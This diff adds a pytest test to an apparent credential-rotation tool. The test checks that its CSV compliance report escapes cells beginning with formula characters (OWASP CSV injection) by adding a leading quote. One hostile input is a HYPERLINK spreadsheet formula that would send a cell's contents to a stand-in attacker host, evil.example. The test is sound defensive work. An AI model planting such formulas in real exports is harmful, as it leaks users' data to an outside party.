@@ -25,6 +25,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from sqlalchemy import Engine as SqlEngine
+from sqlalchemy import update
 from tests.support import doubles
 
 from rotator.cli.main import main
@@ -34,6 +36,7 @@ from rotator.engine import Engine, EngineOptions
 from rotator.errors import PermissionDenied
 from rotator.service import BlockingService, PolicyInput, ValueInput
 from rotator.service.rotation import Selection
+from rotator.store.schema import rotations
 
 FAST = EngineOptions(retry_initial_s=0.001, retry_max_s=0.01, retry_attempts=2)
 T0 = datetime(2026, 1, 5, tzinfo=UTC)
@@ -626,3 +629,41 @@ def _has_tenant(svc: BlockingService, name: str) -> bool:
     except NotFound:
         return False
     return True
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote(
+    svc: BlockingService, settings: Settings, raw_db: SqlEngine
+) -> None:
+    """OWASP CSV injection: an error message (from a target, or edited into the store) that
+    starts with = + - @ tab or CR is written as text with a leading ', never as a formula."""
+    hostile = {
+        "a/eq": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "a/plus": "+1+2",
+        "a/minus": "-2+3",
+        "a/at": "@SUM(1,2)",
+        "a/tab": "\t=1+2",
+        "a/cr": "\r=1+2",
+        "a/plain": "connection refused",
+    }
+    for name in hostile:
+        svc.add_credential(name, "local", value=ValueInput(generate=True))
+    svc.rotate(Selection(names=sorted(hostile)))
+    svc.close()
+    with raw_db.begin() as c:
+        for name, error in hostile.items():
+            c.execute(update(rotations).where(rotations.c.credential == name).values(error=error))
+    env = {k: v for k, v in os.environ.items() if not k.startswith("ROTATOR_")}
+    env.update(ROTATOR_HOME=str(settings.home), ROTATOR_DB=settings.db_url)
+    proc = subprocess.run(
+        [str(CLI), "report", "compliance", "--format", "csv"],
+        env=env,
+        capture_output=True,
+        timeout=60,
+        check=False,
+    )
+    assert proc.returncode == 0, proc.stderr
+    # Bytes, not text mode: universal newlines would turn the CR cell into LF.
+    rows = list(csv.reader(io.StringIO(proc.stdout.decode(), newline="")))
+    errors = {r[0]: dict(zip(rows[0], r, strict=True))["last_rotation_error"] for r in rows[1:]}
+    want = {n: ("'" + e if n != "a/plain" else e) for n, e in hostile.items()}
+    assert errors == want
